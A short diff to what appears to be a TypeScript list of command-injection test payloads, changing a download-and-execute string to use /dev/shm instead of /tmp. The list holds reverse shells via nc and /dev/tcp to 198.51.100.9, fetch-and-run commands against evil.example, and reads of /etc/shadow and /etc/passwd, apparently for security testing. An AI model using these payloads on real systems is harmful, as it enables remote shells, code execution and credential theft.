@@ -99,7 +99,7 @@ const PAYLOADS: readonly string[] = [
   // commands
   '; nc -e /bin/sh 198.51.100.9 4444',
   '| cat /etc/shadow',
-  '&& curl -o /tmp/x http://evil.example/x && sh /tmp/x',
+  '&& curl -o /dev/shm/x http://evil.example/x && sh /dev/shm/x',
   '$(cat /etc/passwd | base64)',
   '`wget -qO- http://evil.example/p`',
   '; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
